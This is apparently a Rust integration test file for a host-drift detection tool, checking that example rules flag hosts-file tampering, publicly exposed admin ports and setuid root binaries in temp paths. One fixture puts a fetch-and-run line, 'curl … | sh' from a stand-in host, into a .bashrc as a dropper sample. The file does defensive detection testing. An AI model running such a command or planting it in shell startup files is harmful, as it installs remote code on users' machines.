//! Integration tests that verify every example rule file in
//! `data/rules/examples/` parses, validates cleanly, and drives the
//! analyzer end to end.

use std::path::PathBuf;

use serde_json::json;

use driftwatch_core::{CompareResult, Platform, ResultType, Verdict};
use driftwatch_rules::schema::{Operation, RuleFile};
use driftwatch_rules::{validate_rule_file, Analyzer};

/// Resolve the examples directory relative to the workspace root.
/// Integration tests run from the crate directory, so we go up two levels.
fn examples_dir() -> PathBuf {
    let manifest = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    manifest.join("../../data/rules/examples")
}

fn load_catalog(filename: &str) -> RuleFile {
    let path = examples_dir().join(filename);
    let raw = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("failed to read {}: {}", path.display(), e));
    serde_json::from_str(&raw)
        .unwrap_or_else(|e| panic!("failed to parse {}: {}", path.display(), e))
}

// ── file-integrity.json ─────────────────────────────────────────────

#[test]
fn parse_file_integrity_example() {
    let catalog = load_catalog("file-integrity.json");

    assert_eq!(catalog.default_levels[&ResultType::File], Verdict::Information);
    assert_eq!(catalog.rules.len(), 3);

    let hosts = &catalog.rules[0];
    assert_eq!(hosts.name, "Hosts file modified");
    assert_eq!(hosts.flag, Verdict::Error);
    assert_eq!(hosts.expression.as_deref(), Some("HOSTS AND CHANGED"));
    assert_eq!(hosts.clauses[1].operation, Operation::WasModified);

    let xattrs = &catalog.rules[1];
    assert_eq!(xattrs.platforms.as_deref(), Some(&[Platform::Macos][..]));
    assert_eq!(
        xattrs.clauses[0].dict_data,
        Some(vec![("com.apple.quarantine".into(), "0000".into())])
    );
}

#[test]
fn file_integrity_example_validates_cleanly() {
    let report = validate_rule_file(&load_catalog("file-integrity.json"));
    assert!(report.valid, "violations: {:?}", report.messages());
}

#[test]
fn hosts_rule_fires_on_a_real_modification() {
    let analyzer = Analyzer::new(Platform::Linux, load_catalog("file-integrity.json"));

    let mut tampered = CompareResult::modified(
        ResultType::File,
        "/etc/hosts",
        json!({"path": "/etc/hosts", "content_hash": "aa11"}),
        json!({"path": "/etc/hosts", "content_hash": "bb22"}),
    );
    let matched = analyzer.analyze(&mut tampered);
    assert_eq!(matched.len(), 1);
    assert_eq!(tampered.matched_rules, vec!["Hosts file modified"]);
    assert_eq!(tampered.analysis, Verdict::Error);

    // Same file, identical hash on both sides: WAS_MODIFIED stays false.
    let mut untouched = CompareResult::modified(
        ResultType::File,
        "/etc/hosts",
        json!({"path": "/etc/hosts", "content_hash": "aa11"}),
        json!({"path": "/etc/hosts", "content_hash": "aa11"}),
    );
    assert!(analyzer.analyze(&mut untouched).is_empty());
    assert_eq!(untouched.analysis, Verdict::Information);
}

#[test]
fn curl_pipe_rule_needs_both_halves() {
    let analyzer = Analyzer::new(Platform::Linux, load_catalog("file-integrity.json"));

    let mut dropper = CompareResult::created(
        ResultType::File,
        "/home/m/.bashrc",
        json!({
            "path": "/home/m/.bashrc",
            "content": "curl -fsSL https://x.example/i.sh | sh"
        }),
    );
    assert_eq!(analyzer.analyze(&mut dropper).len(), 1);

    // A download without the pipe is not enough.
    let mut benign = CompareResult::created(
        ResultType::File,
        "/home/m/.bashrc",
        json!({"path": "/home/m/.bashrc", "content": "curl -O https://x.example/notes.txt"}),
    );
    assert!(analyzer.analyze(&mut benign).is_empty());
}

// ── service-hardening.json ──────────────────────────────────────────

#[test]
fn parse_service_hardening_example() {
    let catalog = load_catalog("service-hardening.json");
    assert_eq!(catalog.rules.len(), 3);
    assert_eq!(catalog.rules[2].result_type, ResultType::Port);
    assert_eq!(
        catalog.rules[2].expression.as_deref(),
        Some("ADMIN AND PUBLIC")
    );
}

#[test]
fn service_hardening_example_validates_cleanly() {
    let report = validate_rule_file(&load_catalog("service-hardening.json"));
    assert!(report.valid, "violations: {:?}", report.messages());
}

#[test]
fn admin_port_rule_ignores_loopback() {
    let analyzer = Analyzer::new(Platform::Linux, load_catalog("service-hardening.json"));

    let mut exposed = CompareResult::created(
        ResultType::Port,
        "tcp/0.0.0.0:3389",
        json!({"port": 3389, "address": "0.0.0.0"}),
    );
    assert_eq!(analyzer.analyze(&mut exposed).len(), 1);
    assert_eq!(exposed.analysis, Verdict::Warning);

    let mut loopback = CompareResult::created(
        ResultType::Port,
        "tcp/127.0.0.1:3389",
        json!({"port": 3389, "address": "127.0.0.1"}),
    );
    assert!(analyzer.analyze(&mut loopback).is_empty());
}

// ── Embedded default catalog ────────────────────────────────────────

#[test]
fn default_catalog_validates_cleanly() {
    let analyzer = Analyzer::with_default_rules(Platform::Linux);
    let report = analyzer.verify_rules();
    assert!(report.valid, "violations: {:?}", report.messages());
    assert!(!analyzer.rules().is_empty());
}

#[test]
fn default_catalog_flags_a_setuid_temp_binary() {
    let analyzer = Analyzer::with_default_rules(Platform::Linux);
    let mut dropper = CompareResult::created(
        ResultType::File,
        "/tmp/.hidden/payload",
        json!({
            "path": "/tmp/.hidden/payload",
            "owner": "root",
            "permissions": {"setuid": true}
        }),
    );
    analyzer.analyze(&mut dropper);
    assert_eq!(dropper.matched_rules, vec!["Setuid root binary in a temp path"]);
    assert_eq!(dropper.analysis, Verdict::Error);
}
